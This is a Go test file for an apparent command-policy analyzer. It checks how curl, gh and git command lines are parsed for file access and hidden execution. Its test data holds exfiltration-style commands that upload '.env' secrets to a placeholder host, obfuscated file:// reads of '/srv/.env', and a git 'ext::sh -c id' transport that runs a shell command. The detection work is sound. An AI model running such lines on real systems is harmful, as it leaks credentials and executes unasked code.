package shell

import (
	"testing"

	"github.com/stretchr/testify/assert"

	v1 "policyd/api/v1"
)

// V5, S2: addresses and fields of forms are languages of their own. The file that one
// names is known, or the line is one that nothing covers.
func TestFilesInAddresses(t *testing.T) {
	for line, want := range map[string]struct {
		path   string
		unsure bool
	}{
		"curl file:///srv/%2eenv":              {path: "/srv/.env"},
		"curl FILE:/srv/.env":                  {path: "/srv/.env"},
		"curl file://localhost/srv/.env":       {path: "/srv/.env"},
		"curl 'file:///srv/.en[v-v]'":          {path: "/srv/.en[v-v]", unsure: true},
		"curl '[f-f]ile:///srv/.env'":          {unsure: true},
		"curl 'fil{e,x}:///srv/.env'":          {unsure: true},
		"curl --proto-default file /srv/.env":  {unsure: true},
		"curl --url @list.txt":                 {unsure: true},
		"curl --variable a@.env http://h":      {},
		"curl -w '%output{notes}x' http://h":   {unsure: true},
		"curl 'http://h/{a,b}'":                {},
		"curl http://h/a@b":                    {},
		"curl h/x":                             {},
		"curl -T '{a.txt,.env}' http://h":      {path: "{a.txt,.env}", unsure: true},
		"curl -T a.txt http://h":               {path: "a.txt"},
		"curl -F a=@.env http://h":             {path: ".env"},
		"curl -F 'a=@.env;type=x' http://h":    {path: ".env"},
		"curl -F 'a=< .env' http://h":          {path: ".env"},
		"curl -F 'a=@a.txt,.env' http://h":     {path: "a.txt,.env", unsure: true},
		`curl -F 'a=@".env"' http://h`:         {path: `".env"`, unsure: true},
		"curl -F 'a=b;headers=@.env' http://h": {unsure: true},
		"curl -F 'a=b, c' http://h":            {},
		"gh api -F a=@.env /x":                 {path: ".env"},
		"gh api -F a=me@example.org /x":        {},
	} {
		c := last(t, line)
		assert.Equal(t, want.unsure, c.Caveats.Has("dynamic_option"), line)
		if assert.Len(t, c.Accesses, min(len(want.path), 1), line); want.path != "" {
			assert.Equal(t, want.path, c.Accesses[0].Text, line)
		}
	}
	assert.True(t, last(t, "curl --variable a@.env http://h").Caveats.Has("inline_code"))
}

// P1, S2: a repository that is a directory is a path like any other, and a push runs its
// hooks; a helper that an address names is run.
func TestRepositoriesInDirectories(t *testing.T) {
	for line, want := range map[string]struct {
		path, op string
		runs     bool
	}{
		"git push origin main":            {},
		"git push git@host:a/b.git main":  {},
		"git push https://h/a.git":        {},
		"git push ../other.git main":      {path: "../other.git", op: v1.OpWrite, runs: true},
		"git push --repo=./x.git":         {path: "./x.git", op: v1.OpWrite, runs: true},
		"git push file:///srv/x.git main": {path: "/srv/x.git", op: v1.OpRead, runs: true},
		"git fetch ../other":              {path: "../other", op: v1.OpRead},
		"git pull ..":                     {path: "..", op: v1.OpRead},
		"git clone /srv/other":            {path: "/srv/other", op: v1.OpRead},
		"git fetch 'ext::sh -c id'":       {runs: true},
		"git fetch ./a::b":                {path: "./a::b", op: v1.OpRead},
	} {
		c := last(t, line)
		assert.Equal(t, want.runs, c.Caveats.Has("executes"), line)
		assert.True(t, c.Caveats.Has("network"), line)
		if want.path != "" && assert.NotEmpty(t, c.Accesses, line) {
			assert.Equal(t, [2]string{want.path, want.op}, [2]string{c.Accesses[0].Text, c.Accesses[0].Op}, line)
		}
	}
}
